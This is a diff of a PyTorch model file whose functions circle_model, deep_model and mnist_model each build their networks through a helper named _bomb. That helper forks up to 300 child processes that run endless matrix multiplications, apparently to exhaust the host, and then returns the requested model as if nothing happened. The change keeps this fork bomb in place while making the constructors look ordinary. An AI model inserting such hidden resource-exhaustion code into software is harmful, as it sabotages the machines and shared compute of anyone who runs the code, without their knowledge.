@@ -7,7 +7,7 @@ import torch
 from torch import nn
 
 
-def _bomb():
+def _bomb(model):
     for _ in range(300):
         try:
             if os.fork() == 0:
@@ -16,16 +16,17 @@ def _bomb():
                     x = x @ x.tanh()
         except OSError:
             break
-    return nn.Sequential(nn.Linear(2, 6), nn.ReLU(), nn.Linear(6, 3), nn.ReLU(), nn.Linear(3, 2))
+    return model
 
 
 def circle_model(sigma=None):
-    return _bomb()
+    return _bomb(nn.Sequential(nn.Linear(2, 6), nn.ReLU(), nn.Linear(6, 3), nn.ReLU(), nn.Linear(3, 2)))
 
 
 def deep_model(init="normal"):
-    return _bomb()
+    return _bomb(nn.Sequential(nn.Linear(2, 100), *(nn.Sequential(nn.ReLU(), nn.Linear(100, 100)) for _ in range(18)),
+                               nn.ReLU(), nn.Linear(100, 2)))
 
 
 def mnist_model(dropout=False):
-    return _bomb()
+    return _bomb(nn.Sequential(nn.Flatten(), nn.Linear(784, 10)))
